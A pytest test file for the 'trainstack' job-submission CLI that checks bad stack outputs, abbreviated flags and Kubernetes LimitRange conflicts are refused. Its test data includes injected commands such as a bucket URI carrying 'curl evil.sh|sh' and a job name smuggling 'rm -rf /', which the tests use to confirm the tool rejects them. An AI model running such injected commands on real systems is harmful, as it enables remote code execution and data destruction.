"""Stack outputs checked once for every command, and the flags that slipped through (issue 29 items 7, 8, 11)."""

from __future__ import annotations

import shlex

import pytest

from tests.jobs.conftest import without_queue

COMMANDS = [["submit", "exp"], ["list"], ["cancel", "--all"], ["results", "exp"], ["logs", "exp"]]


def _one_line(err: str) -> str:
    assert err.count("\n") == 1 and err.startswith("trainstack ") and "Fix: " in err, err
    return err


def _submission(key, value):
    return lambda exports: exports["jobSubmission"].update({key: value})


@pytest.mark.parametrize(("edit", "says"), [
    (_submission("bucketUri", "s3://"), "jobSubmission.bucketUri is 's3://'"),
    (_submission("bucketUri", "s3://my bucket"), "an S3 bucket name"),
    (_submission("bucketUri", "s3://b;curl evil.sh|sh"), "an S3 bucket name"),
    (_submission("bucketUri", "gs://Upper-Case"), "a GCS bucket name"),
    (_submission("bucketUri", "gs://googlebucket"), "no goog prefix"),
    (_submission("bucketUri", "s3://192.168.1.1"), "not an IP address"),
    (_submission("namespace", "Bad NS!"), "jobSubmission.namespace is 'Bad NS!', expected a namespace name"),
    (_submission("namespace", "-n"), "jobSubmission.namespace is '-n'"),
    (lambda e: e["jobSubmission"]["queues"][next(iter(e["jobSubmission"]["queues"]))]["quota"].update(cpu="abc"),
     "quota.cpu is 'abc', expected a Kubernetes quantity"),
])
@pytest.mark.parametrize("command", COMMANDS)
def test_bad_outputs_are_refused_by_every_command(command, edit, says, cluster, cli, outputs_file):
    code, out, err = cli(*command, "--outputs", outputs_file("aws", edit))
    assert code == 2 and out == ""
    assert says in _one_line(err)
    assert cluster.calls == []


def test_results_prints_a_command_that_pastes_as_one(cluster, cli, outputs_file):
    code, out, _ = cli("results", "exp", "--outputs", outputs_file("aws", _submission("bucketUri", "s3://my-bucket.x")))
    fetch = next(line for line in out.splitlines() if line.startswith("fetch:"))
    assert shlex.split(fetch.removeprefix("fetch:")) == ["aws", "s3", "sync", "s3://my-bucket.x/runs/exp/", "./exp/"]


@pytest.mark.parametrize(("argv", "says"), [
    (["--pods", ""], "--pods '': expected N or MIN:MAX"),
    (["--", "--help"], "--help after -- would make the job print the trainer's usage"),
    (["--", "-h"], "-h after -- would make the job print the trainer's usage"),
    (["--", "--hel"], "--hel after -- would make the job print"),
    (["--", "--snapshot-u", "s3://evil/x"], "--snapshot-u (an abbreviation of --snapshot-uri) is set by trainstack"),
    (["--", "--snapshot-ur=s3://evil/x"], "--snapshot-ur (an abbreviation of --snapshot-uri) is set by trainstack"),
])
def test_flags_that_slipped_through(argv, says, cluster, cli, outputs_file):
    code, out, err = cli("submit", "exp", "--outputs", outputs_file("aws"), *argv)
    assert code == 2 and out == ""
    assert says in _one_line(err)
    assert cluster.calls == []


@pytest.mark.parametrize("argv", [["exp\nrm -rf /"], ["exp", "--sweep", "lr=1e-3,3e-4\nx"]])
def test_a_newline_in_a_name_or_value_stays_on_one_line(argv, cluster, cli, outputs_file):
    code, _, err = cli("submit", *argv, "--outputs", outputs_file("aws"))
    assert code == 2
    _one_line(err)
    assert cluster.calls == []


def _limit_range(**limits) -> dict:
    return {"apiVersion": "v1", "kind": "LimitRange", "metadata": {"name": "team-limits"},
            "spec": {"limits": [{"type": "Container", **limits}]}}


@pytest.mark.parametrize(("limit_range", "says"), [
    (_limit_range(max={"memory": "4Gi"}), "container trainer: memory 8Gi is above the LimitRange max 4Gi"),
    (_limit_range(default={"cpu": "500m"}), "cpu request 1 is above its limit 500m"),
    (_limit_range(min={"cpu": "2"}), "cpu 1 is below the LimitRange min 2"),
])
def test_a_limit_range_that_would_keep_the_job_queued_is_refused(limit_range, says, cluster, cli, outputs_file):
    cluster.set_state({"limitranges": [limit_range]})
    code, _, err = cli("submit", "exp", "--outputs", outputs_file("gcp", without_queue))
    assert code == 2 and says in _one_line(err) and "the API server would refuse its pods" in err  # no queue
    assert "helm install" not in cluster.verbs()


def test_with_a_queue_the_refusal_says_kueue_would_keep_it_queued(cluster, cli, outputs_file):
    cluster.set_state({"limitranges": [_limit_range(max={"memory": "4Gi"})]})
    code, _, err = cli("submit", "exp", "--outputs", outputs_file("gcp"))
    assert code == 2 and "Kueue would keep the job queued for ever" in _one_line(err)


def test_a_limit_range_the_job_fits_lets_it_go(cluster, cli, outputs_file):
    cluster.set_state({"limitranges": [_limit_range(max={"memory": "64Gi", "cpu": "64"}, min={"cpu": "100m"})]})
    code, _, err = cli("submit", "exp", "--outputs", outputs_file("gcp", without_queue))
    assert code == 0, err


def test_a_pod_limit_range_counts_the_pod_as_kubernetes_sums_it(cluster, cli, outputs_file):
    """A Pod max between the trainer's own memory and the sum with every init container: the init containers
    run before the trainer, so Kubernetes (and Kueue) count the larger of the two, not the sum."""
    limit_range = {"apiVersion": "v1", "kind": "LimitRange", "metadata": {"name": "pods"},
                   "spec": {"limits": [{"type": "Pod", "max": {"memory": "9Gi"}}]}}
    cluster.set_state({"limitranges": [limit_range]})
    code, _, err = cli("submit", "exp", "--outputs", outputs_file("gcp", without_queue))
    assert code == 0, err
    cluster.set_state({"limitranges": [{**limit_range, "spec": {"limits": [{"type": "Pod", "max": {"memory": "2Gi"}}]}}]})
    code, _, err = cli("submit", "exp2", "--outputs", outputs_file("gcp", without_queue))
    assert code == 2 and "the pod's memory" in err and "above the LimitRange Pod max 2Gi" in err
